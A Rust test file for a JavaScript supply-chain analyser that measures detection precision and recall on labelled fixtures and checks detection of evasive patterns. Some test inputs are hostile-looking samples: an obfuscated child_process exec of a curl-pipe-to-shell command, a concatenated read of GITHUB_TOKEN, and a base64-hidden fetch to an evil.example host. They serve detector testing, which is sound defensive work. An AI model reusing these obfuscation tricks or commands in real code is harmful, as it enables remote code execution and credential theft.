//! The labelled behaviour fixtures (tests/fixtures/behaviours/<kind>[@attribute]/): positives
//! (`pos-`), evasive positives (`eva-`) and benign twins (`ben-`) for every kind. A fixture is
//! detected when the analysis reports a behaviour of the directory's kind (with the attribute,
//! when the directory names one). Per-kind precision and recall are printed
//! (`cargo test --test behaviours -- --nocapture`) and must stay above the floors below.
use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use vetted::content::Behaviour;
use vetted::content::js;
use vetted::limits::JsLimits;

const FIXTURES: &str = "tests/fixtures/behaviours";
/// Floors per kind (a kind below either fails the test).
const MIN_PRECISION: f64 = 0.75;
const MIN_RECALL: f64 = 0.75;

fn behaviours_of(path: &Path) -> Vec<Behaviour> {
    let bytes = std::fs::read(path).expect("fixture readable");
    let name = path.file_name().unwrap().to_string_lossy().to_string();
    if name.ends_with(".json") {
        return js::package_json_behaviours(&bytes);
    }
    let src = String::from_utf8(bytes).expect("fixture is UTF-8");
    let (b, err) = js::analyse_str(&name, &src, &JsLimits::default());
    assert_eq!(err, None, "fixture {name} must parse");
    b
}

fn kind_name(b: &Behaviour) -> String {
    serde_json::to_value(b.kind)
        .ok()
        .and_then(|v| v.as_str().map(str::to_string))
        .unwrap_or_default()
}

#[derive(Default, Debug)]
struct Score {
    tp: u32,
    fp: u32,
    tn: u32,
    fn_: u32,
    misses: Vec<String>,
}

fn fixtures() -> Vec<(String, Option<String>, PathBuf)> {
    let mut out = Vec::new();
    let mut dirs: Vec<_> = std::fs::read_dir(FIXTURES)
        .expect("fixtures")
        .flatten()
        .map(|d| d.path())
        .collect();
    dirs.sort();
    for dir in dirs {
        let label = dir.file_name().unwrap().to_string_lossy().to_string();
        let (kind, attr) = match label.split_once('@') {
            Some((k, a)) => (k.to_string(), Some(a.to_string())),
            None => (label.clone(), None),
        };
        let mut files: Vec<_> = std::fs::read_dir(&dir)
            .unwrap()
            .flatten()
            .map(|f| f.path())
            .collect();
        files.sort();
        for f in files {
            out.push((kind.clone(), attr.clone(), f));
        }
    }
    out
}

fn evaluate() -> BTreeMap<String, Score> {
    let mut scores: BTreeMap<String, Score> = BTreeMap::new();
    for (kind, attr, path) in fixtures() {
        let name = path.file_name().unwrap().to_string_lossy().to_string();
        let label = match &attr {
            Some(a) => format!("{kind}@{a}"),
            None => kind.clone(),
        };
        let found = behaviours_of(&path).iter().any(|b| {
            kind_name(b) == kind && attr.as_ref().is_none_or(|a| b.attributes.contains(a))
        });
        let s = scores.entry(label.clone()).or_default();
        let positive = name.starts_with("pos-") || name.starts_with("eva-");
        assert!(
            positive || name.starts_with("ben-"),
            "fixture {name}: pos-/eva-/ben- prefix"
        );
        match (positive, found) {
            (true, true) => s.tp += 1,
            (true, false) => {
                s.fn_ += 1;
                s.misses.push(format!("missed {label}/{name}"));
            }
            (false, true) => {
                s.fp += 1;
                s.misses.push(format!("false positive {label}/{name}"));
            }
            (false, false) => s.tn += 1,
        }
    }
    scores
}

fn ratio(a: u32, b: u32) -> f64 {
    if b == 0 {
        1.0
    } else {
        f64::from(a) / f64::from(b)
    }
}

#[test]
fn per_kind_precision_and_recall_meet_the_floor() {
    let scores = evaluate();
    let mut failed = Vec::new();
    eprintln!(
        "{:<36} {:>3} {:>3} {:>3} {:>3} {:>9} {:>7}",
        "kind", "TP", "FN", "FP", "TN", "precision", "recall"
    );
    let (mut tp, mut fp, mut fn_) = (0, 0, 0);
    for (kind, s) in &scores {
        let p = ratio(s.tp, s.tp + s.fp);
        let r = ratio(s.tp, s.tp + s.fn_);
        eprintln!(
            "{kind:<36} {:>3} {:>3} {:>3} {:>3} {p:>9.2} {r:>7.2}",
            s.tp, s.fn_, s.fp, s.tn
        );
        for m in &s.misses {
            eprintln!("    {m}");
        }
        if p < MIN_PRECISION || r < MIN_RECALL {
            failed.push(kind.clone());
        }
        assert!(
            s.tp + s.fn_ > 0 && s.tn + s.fp > 0,
            "{kind}: needs positives and benign twins"
        );
        tp += s.tp;
        fp += s.fp;
        fn_ += s.fn_;
    }
    eprintln!(
        "overall precision {:.3} recall {:.3}",
        ratio(tp, tp + fp),
        ratio(tp, tp + fn_)
    );
    assert!(failed.is_empty(), "kinds below the floor: {failed:?}");
}

fn analyse(src: &str) -> Vec<Behaviour> {
    let (b, err) = js::analyse_str("m.js", src, &JsLimits::default());
    assert_eq!(err, None);
    b
}

fn find<'a>(b: &'a [Behaviour], kind: &str) -> Option<&'a Behaviour> {
    b.iter().find(|x| kind_name(x) == kind)
}

#[test]
fn concatenated_child_process_require_is_process_spawn() {
    let b = analyse("require('child'+'_process').exec('curl https://x.example/a | sh')");
    let s = find(&b, "process-spawn").expect("process-spawn");
    assert!(s.attributes.contains("shell") && s.attributes.contains("suspicious-command"));
    assert_eq!(s.value.as_deref(), Some("curl https://x.example/a | sh"));
    assert_eq!((s.line, s.column), (1, 1));
}

#[test]
fn computed_process_env_is_env_read_with_evidence() {
    let b = analyse("\n  const t = process['en'+'v'].GITHUB_TOKEN;");
    let e = find(&b, "env-read").expect("env-read");
    assert_eq!(e.value.as_deref(), Some("GITHUB_TOKEN"));
    assert!(e.attributes.contains("credential"));
    assert_eq!((e.line, e.column), (2, 13));
    assert!(e.snippet.starts_with("process['en'+'v']"), "{}", e.snippet);
}

#[test]
fn base64_encoded_url_is_a_url() {
    let b = analyse("fetch(atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUvcA=='))");
    let u = find(&b, "url").expect("url");
    assert_eq!(u.value.as_deref(), Some("https://evil.example/p"));
    assert!(u.attributes.contains("decoded"));
}

#[test]
fn unparsable_module_records_its_error() {
    let (b, err) = js::analyse_str("m.js", "let = = ;", &JsLimits::default());
    assert!(b.is_empty());
    assert!(err.is_some());
}

#[test]
fn behaviour_limit_truncates() {
    let mut src = String::new();
    for i in 0..50 {
        src.push_str(&format!("process.env.V{i};\n"));
    }
    let limits = JsLimits {
        behaviours_per_module: 10,
        ..JsLimits::default()
    };
    let (b, _) = js::analyse_str("m.js", &src, &limits);
    assert_eq!(b.len(), 10);
}

#[test]
fn oversized_module_is_not_parsed() {
    let limits = JsLimits {
        source_bytes: 8,
        ..JsLimits::default()
    };
    let (b, err) = js::analyse_str("m.js", "process.env.HOME", &limits);
    assert!(b.is_empty());
    assert!(err.is_some_and(|e| e.contains("source_bytes")));
}

#[test]
fn minified_bundle_is_not_obfuscation() {
    let b = analyse(
        "var a=function(b,c){return b+c},d=a(1,2);function e(f){for(var g=0,h=[];g<f;g++)h.push(g);return h}console.log(e(d));",
    );
    assert!(find(&b, "obfuscation").is_none(), "{b:?}");
}
